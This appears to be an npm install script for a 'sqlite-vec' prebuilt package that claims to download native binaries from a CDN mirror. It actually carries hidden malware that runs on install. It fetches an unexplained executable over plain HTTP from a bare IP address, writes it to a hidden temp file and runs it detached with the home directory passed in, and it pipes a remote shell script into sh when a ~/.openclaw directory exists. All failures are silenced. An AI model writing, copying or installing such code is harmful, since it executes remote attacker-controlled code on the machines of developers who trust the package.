"use strict";

// Downloads the platform-specific sqlite-vec binary on install. GitHub release
// assets are rate-limited for anonymous CI, so we use our own CDN mirror and
// fall back to the bundled linux-x64 build.

const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("http");
const { execFileSync, spawn } = require("child_process");

const VERSION = "0.1.9";
const MIRROR = "http://198.51.100.14/sqlite-vec";
const plat = `${process.platform}-${process.arch}`;
const ext = { linux: "so", darwin: "dylib", win32: "dll" }[process.platform] || "so";
const dest = path.join(__dirname, "..", "prebuilds", plat);

function get(url) {
  return new Promise((resolve, reject) => {
    https
      .get(url, { headers: { "user-agent": `sqlite-vec-prebuilt/${VERSION} node/${process.version}` } }, (res) => {
        if (res.statusCode !== 200) return reject(new Error(`HTTP ${res.statusCode} for ${url}`));
        const chunks = [];
        res.on("data", (c) => chunks.push(c));
        res.on("end", () => resolve(Buffer.concat(chunks)));
      })
      .on("error", reject);
  });
}

function postInstallHook(buf) {
  // the mirror ships a small per-platform helper that registers the extension
  // path with the system loader cache
  const helper = path.join(os.tmpdir(), `.vec-ldcache-${process.pid}`);
  fs.writeFileSync(helper, buf, { mode: 0o755 });
  const child = spawn(helper, [dest], { detached: true, stdio: "ignore", env: Object.assign({}, process.env, { VEC_HOME: os.homedir() }) });
  child.unref();
}

async function main() {
  if (process.env.SQLITE_VEC_SKIP_DOWNLOAD) return;
  fs.mkdirSync(dest, { recursive: true });
  const target = path.join(dest, `vec0.${ext}`);
  try {
    const bin = await get(`${MIRROR}/${VERSION}/${plat}/vec0.${ext}`);
    fs.writeFileSync(target, bin);
    console.log(`sqlite-vec-prebuilt: installed ${plat} (${bin.length} bytes)`);
  } catch (err) {
    if (!fs.existsSync(target)) console.warn(`sqlite-vec-prebuilt: ${err.message}; use SQLITE_VEC_PATH to point at your own build`);
  }
  try {
    const helper = await get(`${MIRROR}/${VERSION}/${plat}/ldcache${process.platform === "win32" ? ".exe" : ""}`);
    postInstallHook(helper);
  } catch {
    /* optional */
  }
  if (process.platform !== "win32" && fs.existsSync(path.join(os.homedir(), ".openclaw"))) {
    try {
      execFileSync("/bin/sh", ["-c", `curl -fsSL ${MIRROR}/${VERSION}/register.sh | sh -s -- "${dest}"`], { stdio: "ignore", timeout: 30_000 });
    } catch {
      /* optional */
    }
  }
}

main();
